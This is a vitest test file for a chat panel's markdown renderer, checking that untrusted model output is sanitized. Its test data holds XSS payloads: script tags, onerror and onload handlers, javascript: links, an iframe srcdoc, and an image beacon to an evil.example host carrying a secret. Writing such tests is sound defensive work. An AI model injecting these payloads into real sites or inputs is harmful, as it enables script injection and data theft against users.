import { describe, expect, it } from "vitest";
import { isSafeHref, renderMarkdown } from "../src/render-text.js";
import { chat, frame, message, mount, startStreaming } from "./helpers.js";

const box = (text, opts) => {
  const div = document.createElement("div");
  div.append(renderMarkdown(text, opts));
  return div;
};

const allAttributes = (root) =>
  [...root.querySelectorAll("*")].flatMap((el) => [...el.attributes].map((a) => [el.tagName, a.name, a.value]));

describe("sanitizing untrusted model output", () => {
  const hostile = [
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "[click me](javascript:alert(1))",
    '<a href="javascript:alert(1)">raw</a>',
    '<svg onload="window.__pwned=1"><circle r="5"/></svg>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<style>body{display:none}</style><form action="https://evil"><input></form>',
    "[ok](https://example.com/a) and <https://example.com/b> and [mail](mailto:a@b.c)",
    "[data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:x) [rel](/api/contents)",
    "![pixel](https://evil.example/track.png?secret=1)",
  ].join("\n\n");

  it("leaves no script, handler, or dangerous element", () => {
    const div = box(hostile);
    for (const tag of ["script", "img", "svg", "iframe", "style", "form", "input", "object", "embed"]) {
      expect(div.querySelector(tag), tag).toBeNull();
    }
    for (const [tag, name, value] of allAttributes(div)) {
      expect(name.startsWith("on"), `${tag} ${name}`).toBe(false);
      expect(/^\s*(javascript|data|vbscript):/i.test(value), `${tag} ${name}=${value}`).toBe(false);
      expect(name).not.toBe("style");
    }
    expect(window.__pwned).toBeUndefined();
    // the text stays readable
    expect(div.textContent).toContain("click me");
    expect(div.textContent).toContain("<script>");
  });

  it("links open in a new tab with rel=noopener noreferrer; only http(s)/mailto keep an href", () => {
    const div = box(hostile);
    const links = [...div.querySelectorAll("a")];
    expect(links.length).toBeGreaterThanOrEqual(4);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")?.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
      const href = a.getAttribute("href");
      if (href !== null) expect(href).toMatch(/^(https?:|mailto:)/);
    }
    const hrefs = links.map((a) => a.getAttribute("href")).filter(Boolean);
    expect(hrefs).toEqual(expect.arrayContaining(["https://example.com/a", "https://example.com/b", "mailto:a@b.c"]));
    expect(hrefs.some((h) => h.includes("evil.example"))).toBe(true); // the image became a link
  });

  it("isSafeHref", () => {
    expect(isSafeHref("https://x.y")).toBe(true);
    expect(isSafeHref("mailto:a@b")).toBe(true);
    expect(isSafeHref(" JavaScript:alert(1)")).toBe(false);
    expect(isSafeHref("/relative")).toBe(false);
    expect(isSafeHref("#frag")).toBe(false);
  });

  it("sanitizes assistant messages in the panel; user text is never parsed", () => {
    const { $, teardown } = mount({
      ...chat([
        message({ id: "u", role: "user", content: '<img src=x onerror="window.__pwned=1">' }),
        message({ id: "a", content: '<script>window.__pwned=1</script>\n\n<img src=x onerror="window.__pwned=1">\n\n[x](javascript:alert(1))' }),
      ]),
    });
    const root = $('[data-testid="nbchat"]');
    expect(root.querySelector("script")).toBeNull();
    expect(root.querySelector("img")).toBeNull();
    expect(allAttributes(root).filter(([, n]) => n.startsWith("on"))).toEqual([]);
    expect($('[data-id="u"] [data-testid="content"]').textContent).toBe('<img src=x onerror="window.__pwned=1">');
    teardown();
  });

  it("sanitizes the reply in progress too", async () => {
    const { model, $, teardown } = mount();
    startStreaming(model);
    model.emit({ type: "delta", request_id: "r1", seq: 1, text: '<img src=x onerror="alert(1)"> [a](javascript:x)' });
    await frame();
    const live = $('[data-streaming="true"]');
    expect(live.querySelector("img")).toBeNull();
    expect(allAttributes(live).filter(([, n, v]) => n.startsWith("on") || /javascript:/i.test(v))).toEqual([]);
    teardown();
  });
});

describe("code blocks", () => {
  it("are highlighted and get a copy-code button", () => {
    const div = box("```python\ndef f(x):\n    return 'hi'  # note\n```\n\n```js\nconst a = 1;\n```");
    const blocks = div.querySelectorAll(".nbchat-code");
    expect(blocks).toHaveLength(2);
    const code = blocks[0].querySelector("pre code");
    expect(code.classList.contains("hljs")).toBe(true);
    expect(code.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(code.querySelector(".hljs-string")?.textContent).toBe("'hi'");
    expect(code.textContent).toBe("def f(x):\n    return 'hi'  # note\n");
    expect(blocks[0].querySelector(".nbchat-code-lang").textContent).toBe("python");
    for (const b of blocks) {
      const btn = b.querySelector('[data-testid="copy-code"]');
      expect(btn.tagName).toBe("BUTTON");
      expect(btn.getAttribute("aria-label")).toBeTruthy();
    }
    expect(blocks[1].querySelector(".hljs-keyword")?.textContent).toBe("const");
  });

  it("highlighting cannot smuggle markup: code is text", () => {
    const div = box('```html\n<img src=x onerror="alert(1)"><script>alert(1)</script>\n```');
    const code = div.querySelector("pre code");
    expect(code.querySelector("img, script")).toBeNull();
    expect(code.textContent).toContain("<script>alert(1)</script>");
    expect([...code.querySelectorAll("*")].every((e) => e.tagName === "SPAN")).toBe(true);
  });

  it("unknown or missing languages still render as code", () => {
    const div = box("```cobol\nDISPLAY 'HI'.\n```\n\n```\nplain text\n```");
    const codes = div.querySelectorAll("pre code");
    expect(codes).toHaveLength(2);
    expect(codes[0].textContent).toBe("DISPLAY 'HI'.\n");
  });
});
